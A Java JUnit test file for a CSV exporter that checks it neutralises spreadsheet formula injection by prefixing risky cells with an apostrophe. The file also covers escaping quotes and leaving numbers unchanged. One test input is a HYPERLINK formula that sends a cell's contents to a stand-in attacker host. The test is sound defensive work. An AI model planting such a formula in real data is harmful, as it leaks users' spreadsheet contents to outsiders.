package dev.dayone.dashboard.document;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTest {

    @Test
    void whatASpreadsheetWouldRunIsText() {
        for (String formula : List.of(
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(A1)",
                " =1+1",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0dx",
                "\uff20x",
                "=HYPERLINK(\"http://evil.example/?\"&A1)")) {
            assertThat(Csv.of(List.of(List.of(formula))).replaceFirst("^\"", ""))
                    .as(formula)
                    .startsWith("'");
        }
    }

    @Test
    void aNumberAndATextStayWhatTheyAre() {
        assertThat(Csv.of(List.of(List.of("-3.5", "12", "1e-4", "kim", "a-b", "", "\u22123"))))
                .isEqualTo("-3.5,12,1e-4,kim,a-b,,\u22123\r\n");
    }

    @Test
    void noCellEndsItsOwnQuotes() {
        assertThat(Csv.of(List.of(List.of("a\",\"b", "x\r\ny")))).isEqualTo("\"a\"\",\"\"b\",\"x\r\ny\"\r\n");
    }
}
